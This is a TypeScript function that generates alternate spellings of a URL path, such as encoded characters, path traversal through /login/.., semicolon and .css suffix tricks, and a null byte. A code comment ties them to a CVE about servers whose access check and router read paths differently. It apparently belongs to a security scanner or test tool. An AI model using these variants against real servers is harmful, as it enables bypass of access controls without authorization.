/**
 * Other ways to write a path, for servers whose check and whose router read it differently (CVE-2025-66202); and paths
 * that a check by prefix, suffix or pattern would accept.
 */
export function spellings(path: string): string[] {
  const code = path.charCodeAt(1).toString(16);
  const rest = path.slice(2);
  const capital = `/${path.charAt(1).toUpperCase()}${rest}`;
  return [
    `/${path}`,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `/.${path}`,
    `/%${code}${rest}`,
    `/%25${code}${rest}`,
    path.toUpperCase(),
    capital,
    `${path};x`,
    `${path};x=.css`,
    `${path}.css`,
    `${path}/x.css`,
    `${path}.json`,
    `${path}.html`,
    `${path}%20`,
    `${path}%00`,
    `${path}%2f`,
    `${path}?x=/login`,
    `${path}?x=.css`,
    `/login/..${path}`,
    `/login${path}`,
    `/login/..;${path}`,
    `/static/..${path}`,
    `/static${path}`,
    `${path}/login`,
    `/api${path}`,
    `/en${path}`,
  ];
}
